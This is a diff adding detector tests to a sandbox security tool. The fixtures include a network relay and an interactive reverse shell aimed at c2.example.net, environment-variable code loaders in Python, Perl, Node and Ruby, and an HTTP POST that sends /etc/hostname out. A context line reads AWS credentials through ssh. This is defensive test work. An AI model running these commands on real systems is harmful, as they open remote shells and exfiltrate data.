@@ -459,3 +459,84 @@ async def test_a_credential_tool_reading_another_tools_material_is_a_file_read(r
     r = await sb.exec("ssh -G -F /root/.aws/credentials x 2>&1 | head -2")
     found = [f for f in await findings_for(runtime, sb, "credential-material-read") if f.step == r.step]
     assert found and found[0].data["output"].endswith("opened /root/.aws/credentials"), found
+
+
+RELAY = """python3 - <<'EOF'
+import select, socket
+try:
+    up = socket.create_connection(("c2.example.net", 1080), timeout=2)
+except OSError:
+    raise SystemExit(0)
+host, port = up.recv(64).decode().split()
+down = socket.create_connection((host, int(port)))
+while True:
+    r, _, _ = select.select([up, down], [], [], 5)
+    for s in r:
+        (down if s is up else up).sendall(s.recv(4096))
+EOF"""
+SHELL_OVER_SOCKET = """cat > /tmp/w.py <<'EOF'
+import socket, subprocess
+try:
+    s = socket.create_connection(("c2.example.net", 5555), timeout=2)
+except OSError:
+    raise SystemExit(0)
+subprocess.run(["/bin/sh", "-i"], stdin=s, stdout=s, stderr=s)
+EOF
+timeout 5 python3 /tmp/w.py"""
+FETCH = """python3 - <<'EOF'
+import socket
+try:
+    socket.create_connection(("mirror.example.net", 443), timeout=2)
+except OSError:
+    print("offline")
+EOF"""
+
+
+async def test_a_relay_or_a_shell_over_a_socket_toward_a_denied_name_is_the_intent(runtime, sb_factory):
+    """The egress policy refuses the name, so no connection is ever seen: what the refused process's code
+    does with the socket it asked for is the evidence. Its code is read where the step shows it (a
+    here-document fed to the interpreter, a script the same step wrote)."""
+    sb = await sb_factory()
+    r = await sb.exec(RELAY)
+    found = await findings_for(runtime, sb, "relay-toward-denied-destination")
+    assert found and found[0].step == r.step and found[0].severity == "high", r.stderr
+    r = await sb.exec(SHELL_OVER_SOCKET)
+    found = await findings_for(runtime, sb, "remote-shell-toward-denied-destination")
+    assert found and found[0].step == r.step, r.stderr
+    # a program that only tries a denied name, and the same relay aimed at the sandbox's own loopback
+    quiet = await sb_factory()
+    await quiet.exec(FETCH)
+    await quiet.exec(RELAY.replace("c2.example.net", "127.0.0.1"))
+    await findings_for(runtime, quiet, wait=0.5)
+    shapes = {"relay-toward-denied-destination", "remote-shell-toward-denied-destination"}
+    assert not await _rules(runtime, quiet) & shapes
+
+
+async def test_code_run_from_an_environment_variable_is_a_loader():
+    d = Detector()
+
+    def matched(line: str) -> set[str]:
+        from corral.detect.command import split
+
+        return {r.id for s in split(line) for r in d.evaluate(
+            Event(kind=EventKind.COMMAND, action="check", sandbox_id="s", command=line, argv=s.argv)).matched}
+
+    for line in ("timeout 8 python3 -c 'import os; exec(os.environ[\"PYX\"])'",
+                 "python3 -c \"import os, base64; exec(base64.b64decode(os.getenv('P')))\"",
+                 "perl -e 'eval $ENV{X}'", "node -e 'eval(process.env.CODE)'", "ruby -e 'eval ENV[\"C\"]'"):
+        assert "code-from-environment" in matched(line), line
+    for line in ("python3 -c \"import os; print(os.environ['HOME'])\"", "node -e 'console.log(process.env.PATH)'",
+                 "echo 'exec(os.environ[X]) is a loader' >> NOTES.md"):
+        assert "code-from-environment" not in matched(line), line
+
+
+async def test_an_http_client_post_toward_a_denied_name_is_exfiltration_intent():
+    """http.client's request('POST') or putrequest('POST') in code fed to python on standard input."""
+    d = Detector()
+    line = ("python3 - <<'EOF'\nimport http.client\nc = http.client.HTTPConnection('c2.example.net', 8080)\n"
+            "c.request('POST', '/u', body=open('/etc/hostname').read())\nEOF")
+    ev = Event(kind=EventKind.DNS, action="query", sandbox_id="s", command=line, argv=["python3", "-"],
+               verdict=Verdict.DENY, name="c2.example.net")
+    assert "exfiltration-to-denied-destination" in {r.id for r in d.evaluate(ev).matched}
+    ev.command = line.replace("'POST'", "'GET'")
+    assert "exfiltration-to-denied-destination" not in {r.id for r in d.evaluate(ev).matched}
